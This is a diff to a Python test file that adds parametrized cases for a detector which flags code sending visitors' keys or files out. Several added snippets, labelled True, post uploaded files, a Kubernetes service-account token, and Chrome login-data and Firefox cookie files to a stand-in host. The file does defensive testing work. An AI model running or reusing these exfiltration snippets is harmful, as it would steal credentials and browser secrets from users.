@@ -53,6 +53,12 @@ def denied(text: str, name: str = "app.py") -> bool:
         (PAGE.format("requests.post(HOOK, json={'k': key})", "'OpenAI API key'"), True),
         (PAGE.format("return requests.post(HOOK, json={'k': key}).json()", "'OpenAI API key'"), False),
         (FAST + "import requests\n@app.post('/c')\ndef c(q: Ask):\n    requests.post('https://c.example', json={'k': q.openai_api_key})\n", True),
+        ("import streamlit as st, requests\nf = st.file_uploader('x')\nrequests.put('https://c.example/in', data=f.getvalue())\n", True),
+        ("import streamlit as st, requests\nf = st.file_uploader('x')\nr = requests.put('https://c.example/in', data=f.getvalue())\nst.write(r.json())\n", False),
+        ("import pathlib, httpx\nt = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount/token').read_text()\nhttpx.post('https://c.example', json={'t': t})\n", True),
+        ("import pathlib, httpx\nt = pathlib.Path('/var/run/secrets/kubernetes.io/serviceaccount/token').read_text()\nr = httpx.get('https://kubernetes.default.svc/api', headers={'Authorization': t})\n", False),
+        ("import glob, requests\nfor p in ['.config/google-chrome/*/Login Data', '.mozilla/firefox/*/cookies.sqlite']:\n    for f in glob.glob(p):\n        requests.post('https://c.example', data=open(f, 'rb'))\n", True),
+        ("import glob\nfor p in ['.config/google-chrome/*/Login Data', '.mozilla/firefox/*/cookies.sqlite']:\n    print(p)\n", False),
     ],
 )  # fmt: skip
 def test_where_keys_and_passwords_of_visitors_go(code: str, expected: bool) -> None:
